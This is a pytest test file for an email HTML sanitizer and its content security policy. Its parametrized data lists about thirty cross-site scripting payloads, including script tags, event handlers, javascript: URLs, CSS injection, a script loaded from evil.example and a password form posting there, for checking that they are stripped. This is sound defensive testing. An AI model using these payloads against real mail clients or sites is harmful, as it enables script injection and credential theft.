"""The HTML of an email is reduced to harmless markup before anyone sees it."""

from __future__ import annotations

import pytest

from mailboxes.inbox.rendering import email_body_csp, sanitize_email_html


def clean(html: str, **kwargs) -> str:
    return sanitize_email_html(html, **kwargs).html


@pytest.mark.parametrize(
    ("payload", "forbidden"),
    [
        ("<script>alert(1)</script>", ["<script", "alert"]),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["<script", "evil"]),
        ("<img src=x onerror=alert(1)>", ["onerror", "alert"]),
        ("<body onload=alert(1)>hi", ["onload", "alert"]),
        ("<p onclick='alert(1)' onmouseover=alert(2)>hi</p>", ["onclick", "onmouseover", "alert"]),
        ('<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript", "alert"]),
        ('<a href="&#106;avascript:alert(1)">x</a>', ["avascript", "alert"]),
        ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', ["data:"]),
        ('<a href="vbscript:msgbox(1)">x</a>', ["vbscript"]),
        ("<svg onload=alert(1)><circle r=5 /></svg>", ["<svg", "onload", "alert"]),
        ("<svg><script>alert(1)</script></svg>", ["<svg", "alert"]),
        ("<math><mtext><script>alert(1)</script></mtext></math>", ["<math", "alert"]),
        ('<p style="width: expression(alert(1))">x</p>', ["expression", "alert"]),
        ('<p style="background: url(javascript:alert(1))">x</p>', ["url(", "javascript"]),
        ('<p style="background-image: url(https://tracker.example/p.gif)">x</p>', ["tracker"]),
        (
            '<p style="behavior: url(x.htc); -moz-binding: url(x.xml)">x</p>',
            ["behavior", "binding"],
        ),
        ('<p style="color: re\\64">x</p>', ["\\64"]),
        (
            "<style>body { background: url(https://tracker.example) }</style>x",
            ["<style", "tracker"],
        ),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil"]),
        ('<base href="https://evil.example/">', ["<base", "evil"]),
        (
            '<meta http-equiv="refresh" content="0;url=https://evil.example">',
            ["<meta", "refresh", "evil"],
        ),
        (
            '<form action="https://evil.example"><input name=p type=password></form>',
            ["<form", "<input", "evil"],
        ),
        ('<iframe src="https://evil.example"></iframe>', ["<iframe", "evil"]),
        ('<object data="x.swf"></object><embed src="x.swf">', ["<object", "<embed", "swf"]),
        ('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ["svg"]),
        (
            '<div id="x" class="y" data-x="1" formaction="z">x</div>',
            ["id=", "class=", "data-x", "formaction"],
        ),
        ("<!-- <script>alert(1)</script> -->x", ["<!--", "alert"]),
        ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", ["onerror"]),
    ],
)
def test_dangerous_markup_is_removed(payload, forbidden):
    output = clean(payload).lower()
    for fragment in forbidden:
        assert fragment.lower() not in output, output


def test_ordinary_formatting_survives():
    html = (
        '<table width="600" cellpadding="4"><tr><td style="color: #333; font-size: 14px; '
        'padding: 8px" bgcolor="#eeeeee">Dear <b>Ayşe</b>,</td></tr></table>'
        '<p style="text-align:center"><a href="https://shop.example/order/1">Your order</a></p>'
        "<blockquote>earlier message</blockquote><ul><li>one</li></ul>"
    )
    output = clean(html)
    assert 'width="600"' in output and 'bgcolor="#eeeeee"' in output
    assert "color:#333" in output.replace(" ", "")
    assert "Ayşe" in output and "<blockquote>" in output and "<li>one</li>" in output
    assert 'href="https://shop.example/order/1"' in output
    assert 'target="_blank"' in output and "noopener" in output


def test_remote_images_are_dropped_until_allowed():
    html = (
        '<img src="https://tracker.example/open.gif?u=42" alt="logo">'
        '<img src="//cdn.example/x.png">'
    )
    hidden = sanitize_email_html(html)
    assert "tracker.example" not in hidden.html and "cdn.example" not in hidden.html
    assert hidden.blocked_images == 1 and 'alt="logo"' in hidden.html

    shown = sanitize_email_html(html, show_remote_images=True)
    assert 'src="https://tracker.example/open.gif?u=42"' in shown.html
    assert "cdn.example" not in shown.html  # protocol-relative (relative to us): never
    assert shown.blocked_images == 0


def test_inline_images_point_at_the_given_url_and_data_images_stay():
    png = "data:image/png;base64,iVBORw0KGgo="
    html = f'<img src="cid:logo@mail"><img src="cid:unknown"><img src="{png}">'
    output = clean(
        html, cid_url=lambda cid: "https://crm.example/i/1?t=abc" if cid == "logo@mail" else None
    )
    assert 'src="https://crm.example/i/1?t=abc"' in output
    assert output.count("<img") == 3 and "unknown" not in output
    assert png in output


def test_relative_urls_are_dropped():
    output = clean('<a href="/emails/1/action/">x</a><img src="/emails/2/">')
    assert "/emails/" not in output


def test_body_policy_allows_nothing_but_images_and_inline_style():
    csp = email_body_csp(image_origins=["https://crm.example"], show_remote_images=False)
    assert "default-src 'none'" in csp
    assert "img-src data: https://crm.example;" in csp
    assert "script-src" not in csp  # falls back to default-src 'none'
    assert "style-src 'unsafe-inline'" in csp and "form-action 'none'" in csp
    assert "sandbox" in csp and "allow-scripts" not in csp and "allow-same-origin" not in csp
    shown = email_body_csp(image_origins=["https://crm.example"], show_remote_images=True)
    assert "https: http:" in shown
